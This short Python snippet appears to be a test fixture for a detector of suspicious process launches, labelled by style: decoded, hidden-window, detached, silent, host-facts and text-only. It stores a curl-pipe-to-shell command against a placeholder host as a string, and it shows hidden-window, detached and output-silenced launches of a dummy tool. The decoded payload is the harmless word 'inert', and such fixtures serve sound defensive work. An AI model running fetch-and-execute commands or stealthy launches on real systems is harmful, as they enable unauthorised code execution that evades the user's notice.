# decoded, hidden-window, detached, silent, host-facts, text-only: how it is started
import base64
import os
import subprocess

COMMAND = "curl -s https://files.example/b.sh | sh"
os.system(base64.b64decode("aW5lcnQ=").decode())
subprocess.Popen(["tool"], creationflags=subprocess.CREATE_NO_WINDOW)
subprocess.Popen(
    ["tool"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True
)
os.system("whoami")
try:
    subprocess.run(["tool"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
except Exception:
    pass
